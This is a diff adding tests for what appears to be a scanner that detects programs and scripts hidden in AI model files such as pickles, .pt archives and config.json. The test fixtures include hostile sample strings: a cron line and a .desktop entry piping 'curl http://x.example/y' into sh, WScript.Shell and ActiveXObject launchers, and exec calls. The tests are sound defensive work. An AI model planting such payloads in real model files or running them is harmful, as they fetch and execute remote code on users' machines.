@@ -159,3 +159,48 @@ test('texts that are made to be slow are not', () => {
 test('two letters make no program', () => {
   expect(run(bytes('MZ', floats(100)), undefined, 'weights.bin')).toMatchObject({ format: 'raw-tensor', findings: [] });
 });
+
+test('a program under the name of a document that comes with models', () => {
+  for (const name of ['config.json', 'vocab.txt', 'model.dat', 'openvino.xml']) {
+    expect(found(elfOf(2), name)).toEqual(['MEDIUM program-named-model']);
+    expect(found(peOf(0x22), name)).toEqual(['MEDIUM program-named-model']);
+  }
+  expect(found(elfOf(2), 'tool')).toEqual([]);
+});
+
+test('classes of a virtual machine in an archive that has the name of a model', () => {
+  const jar = zipOf([
+    { name: 'META-INF/MANIFEST.MF', data: bytes('Main-Class: Evil\n') },
+    { name: 'Evil.class', data: JAVA_CLASS }
+  ]);
+  expect(found(jar, 'model.pt')).toEqual(['MEDIUM program-in-model']);
+  expect(found(jar, 'tool.jar')).toEqual([]);
+  expect(found(jar, 'classes.zip')).toEqual([]);
+});
+
+test('a script in front of a model', () => {
+  const archive = zipOf([{ name: 'a/data.pkl', data: proto(2, '}') }]);
+  expect(found(bytes('#!/bin/sh\nid\nexit\n', archive), 'model.pt')).toEqual(['MEDIUM program-in-model']);
+  expect(found(bytes('#!/usr/bin/env python3\n', archive), 'app.pyz')).toEqual([]);
+  expect(found(bytes('#!/usr/bin/perl\nsystem("id");\n', zeros(40).fill(0xf7)), 'model.pt')).toEqual([
+    'MEDIUM program-in-model'
+  ]);
+});
+
+test.each([
+  'Set s=CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
+  'require("child_process").exec("id")\n',
+  'os.execute("id")\n',
+  '<script>new ActiveXObject("WScript.Shell").Run("calc")</script>',
+  '* * * * * root curl http://x.example/y|sh\n'
+])('a script behind a pickle: %j', script => {
+  expect(found(bytes(proto(2, '}'), script), 'model.pkl')).toContain('MEDIUM program-in-model');
+});
+
+test.each([
+  ['run.vbs', 'CreateObject("WScript.Shell").Run "calc"'],
+  ['model.desktop', '[Desktop Entry]\nType=Application\nExec=/bin/sh -c "curl http://x.example/y|sh"\n'],
+  ['open.hta', '<html><hta:application><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>']
+])('%s in an archive, which a desktop starts when it is opened', (name, text) => {
+  expect(found(inZip(name, bytes(text)), 'model.zip')).toEqual(['MEDIUM program-in-model']);
+});
